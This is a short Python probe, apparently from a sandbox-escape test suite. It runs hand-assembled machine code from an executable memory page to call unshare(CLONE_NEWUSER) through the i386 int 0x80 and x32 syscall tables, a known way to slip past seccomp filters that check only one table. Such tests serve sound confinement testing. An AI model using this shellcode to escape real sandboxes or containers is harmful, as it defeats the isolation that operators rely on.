"""Calls unshare by the 32-bit interface and by that of x32: a filter that knows one table of numbers may let pass what
another table means."""

import ctypes
import mmap
import os
import platform

from prepare import leave_checkpoint

CODES = {
    # push rbx; mov eax, 310 (unshare of i386); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    "int 0x80": bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3"),
    # mov eax, 0x40000000 + 272 (unshare of x32); mov edi, CLONE_NEWUSER; syscall; ret
    "x32": bytes.fromhex("b810010040 bf00000010 0f05 c3"),
}


def tries(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


for name, code in CODES.items() if platform.machine() == "x86_64" else ():
    child = os.fork()
    if child == 0:
        os._exit(0 if tries(code) == 0 else 1)
    _, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
        print("GOT a namespace by", name)
    else:
        print("refused", name, f"status {status}")
leave_checkpoint()
